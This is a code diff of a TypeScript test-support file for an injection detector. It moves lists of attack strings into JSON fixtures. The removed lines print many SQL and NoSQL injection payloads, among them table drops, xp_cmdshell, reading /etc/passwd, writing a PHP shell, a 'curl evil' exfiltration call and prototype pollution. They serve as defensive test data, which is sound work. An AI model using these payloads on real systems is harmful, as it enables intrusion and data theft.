@@ -2,158 +2,33 @@
  * The injection corpora shared by the detector unit tests and the API attack suite.
  * Attack strings must be refused; legitimate strings (all seeded content included) must pass.
  */
+import fs from 'node:fs';
+import path from 'node:path';
 import { DEMO_ARTICLES, DEMO_LIBRARY, DEMO_PERIODS, DEMO_POSITIONS, demoMembers } from '../../seed/demo-content';
 import { defaultSettings } from '../../seed/default-settings';
 import { DEFAULT_DIVISIONS } from '../../seed/default-divisions';
 import { DEFAULT_ROLES } from '../../seed/default-roles';
 import { PERMISSIONS } from '../../seed/permission-catalogue';
 
-export const SQL_ATTACKS: string[] = [
-  // tautologies
-  "' OR '1'='1",
-  "' OR '1'='1' --",
-  "' or 1=1--",
-  "' OR 1=1#",
-  "admin' --",
-  "admin'#",
-  "admin'/*",
-  "' or ''='",
-  '" OR ""="',
-  '") or ("a"="a',
-  "') OR ('1'='1",
-  '1 OR 1=1',
-  "1' AND 1=1 AND '1'='1",
-  "x' AND 'a'='a",
-  "' OR 'x'='x",
-  "' or true--",
-  "1' or '1' = '1'))/*",
-  "' || '1'='1",
-  "-1' OR 2>1 --",
-  "anything' OR 'x' LIKE 'x",
-  "' OR username IS NOT NULL --",
-  '1 AND 1=2',
-  '5 or 2 > 1',
-  "name or 'a'='a'",
-  '1 HAVING 1=1',
-  "' OR 1 IN (1) --",
-  // union based
-  "' UNION SELECT username, password FROM users--",
-  '1 UNION ALL SELECT NULL,NULL,NULL--',
-  '-1 union select 1,2,3',
-  "' UNION/**/SELECT/**/password/**/FROM/**/users--",
-  '1/*!50000UNION*//*!50000SELECT*/1,2',
-  '1 uNiOn SeLeCt table_name from information_schema.tables',
-  '%27%20UNION%20SELECT%20NULL--',
-  "x') union (select 1)--",
-  // stacked queries
-  "'; DROP TABLE users; --",
-  '1; DROP TABLE articles',
-  '1;DELETE FROM users',
-  "'; INSERT INTO users (username) VALUES ('evil'); --",
-  "1; UPDATE users SET role='owner' WHERE 1=1",
-  "'; TRUNCATE TABLE sessions; --",
-  "'; exec master..xp_cmdshell 'dir'--",
-  "1; EXEC('sp_who')",
-  "'; SHUTDOWN; --",
-  '1; SELECT * FROM users',
-  "'; select pg_sleep(5)--",
-  '1;ALTER TABLE users ADD COLUMN x int',
-  "'; CREATE USER hacker IDENTIFIED BY 'x'; --",
-  "'; DECLARE @q varchar(99); --",
-  // comment terminators and probes
-  "1')--",
-  'admin"--',
-  "' ORDER BY 3--",
-  '1 ORDER BY 10#',
-  "' GROUP BY 1 --",
-  // time based
-  "1' AND SLEEP(5)--",
-  "' OR SLEEP(5)#",
-  '1 AND (SELECT * FROM (SELECT(SLEEP(5)))x)',
-  "'||pg_sleep(10)--",
-  '1) AND BENCHMARK(5000000,MD5(1))#',
-  "'; WAITFOR DELAY '0:0:5'--",
-  "1 WAITFOR DELAY '00:00:10'",
-  "' AND 1=dbms_pipe.receive_message('a',5)--",
-  '1 AND randomblob(500000000)',
-  // schema probes, error based
-  "' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--",
-  'select name from sqlite_master',
-  "' AND extractvalue(1,concat(0x7e,version()))--",
-  "' AND updatexml(1,concat(0x7e,(SELECT user())),1)--",
-  '1 and substring(@@version,1,1)=5',
-  "' union select group_concat(table_name) from x--",
-  'SELECT * FROM pg_catalog.pg_tables',
-  "' AND ascii(substring((select password from users limit 1),1,1))>64--",
-  "' AND (SELECT 1 FROM users LIMIT 1)='1",
-  // command execution, file access
-  "'; EXEC xp_cmdshell('net user')--",
-  "exec sp_executesql N'select 1'",
-  "' UNION SELECT load_file('/etc/passwd')--",
-  "' INTO OUTFILE '/var/www/shell.php'--",
-  "'; COPY users TO PROGRAM 'curl evil'--",
-  "SELECT * FROM OPENROWSET('SQLNCLI','x','y')",
-  // obfuscation
-  "' OR username=CHAR(97,100,109,105,110)--",
-  "admin' AND password=char(112)+char(119)--",
-  "' OR name=0x61646d696e--",
-  "1 AND unhex('61646d696e')",
-  "' or concat(0x41,0x42)='AB",
-  '%2527%2520OR%25201%253D1',
-  '1%27%20OR%20%271%27%3D%271',
-];
+const FIXTURES = path.resolve(import.meta.dirname, '../../../tests/fixtures/injection');
+const readFixture = <T>(name: string): T => JSON.parse(fs.readFileSync(path.join(FIXTURES, name), 'utf8')) as T;
 
-export const OPERATOR_BODY_ATTACKS: unknown[] = [
-  { username: { $ne: null }, password: { $ne: null } },
-  { username: 'owner', password: { $gt: '' } },
-  { username: { $regex: '.*' }, password: 'x' },
-  { $where: 'this.password.length > 0' },
-  { $or: [{ username: 'a' }, { username: 'b' }] },
-  { filters: { $and: [{ id: { $gt: 0 } }] } },
-  { name: { $exists: true } },
-  { period: { $in: ['2024-2025'] } },
-  { id: { $nin: [] } },
-  { title: { $expr: { $gt: ['$a', '$b'] } } },
-  { q: { $function: { body: 'function(){return true}', args: [], lang: 'js' } } },
-  { tags: [{ $elemMatch: { $eq: 'x' } }] },
-  JSON.parse('{"__proto__": {"polluted": "yes"}}'),
-  { constructor: { prototype: { polluted: true } } },
-  { nested: { deeper: { prototype: { x: 1 } } } },
-  { positions: [{ name: 'Ketua', order: { $gt: 0 } }] },
-  { socialLinks: { instagram: { $ne: '' } } },
-  { filters: { title: { $containsi: 'a' } } },
-  { $lookup: { from: 'users' } },
-  { tags: '["ok", {"$ne": 1}]' },
-  { data: '{"username": {"$ne": null}}' },
-  { username: "'; return true; var x='" },
-  { username: 'x" || "1"=="1' },
-  { search: 'this.password.match(/.*/)' },
-  { where: '$where: function() { return true }' },
-  { q: '1; while(true){}' },
-  { name: 'process.exit(1)' },
-  { name: "require('child_process').exec('id')" },
-  { q: 'sleep(5000)' },
-  { q: 'username[$ne]=admin' },
-  { 'user.$ne': 'x' },
-  { 'a[__proto__][b]': 'c' },
-  { 'constructor.prototype.x': 'y' },
-];
-
+/** The attack corpus (tests/fixtures/injection/attacks.json): refused wherever it reaches a query. */
+const attacks = readFixture<{ sql: string[]; operatorBodies: unknown[]; operatorQueries: string[] }>('attacks.json');
+export const SQL_ATTACKS: string[] = attacks.sql;
+/** JSON bodies whose keys carry operators or prototype names, or whose non-text fields carry $where-style code. */
+export const OPERATOR_BODY_ATTACKS: unknown[] = attacks.operatorBodies;
 /** Query strings (without '?'), as an attacker would put them on any GET endpoint. */
-export const OPERATOR_QUERY_ATTACKS: string[] = [
-  'username[$ne]=x',
-  'q[$regex]=.*',
-  'period[$ne]=2024-2025',
-  'filters[title][$containsi]=a',
-  'filters[$or][0][published]=false',
-  'page[$gt]=0',
-  'tag[$in][]=Workshop',
-  '__proto__[polluted]=1',
-  'constructor[prototype][polluted]=1',
-  'a[__proto__]=1',
-  '$where=this.a==1',
-  'sort[$natural]=1',
-];
+export const OPERATOR_QUERY_ATTACKS: string[] = attacks.operatorQueries;
+
+/**
+ * The association's own writing (tests/fixtures/injection/legitimate-writing.json): SQL tutorials,
+ * injection explanations, MongoDB queries, shell commands, code snippets and passwords. None may be
+ * refused in any free-text field (title, content, description, name, message…) or password.
+ */
+const writing = readFixture<Record<string, string | string[]>>('legitimate-writing.json');
+export const LEGIT_WRITING: string[] = Object.values(writing).filter(Array.isArray).flat();
+export const LEGIT_PASSWORDS: string[] = writing.passwords as string[];
 
 const stringsOf = (value: unknown, out: string[] = []): string[] => {
   if (typeof value === 'string') out.push(value);
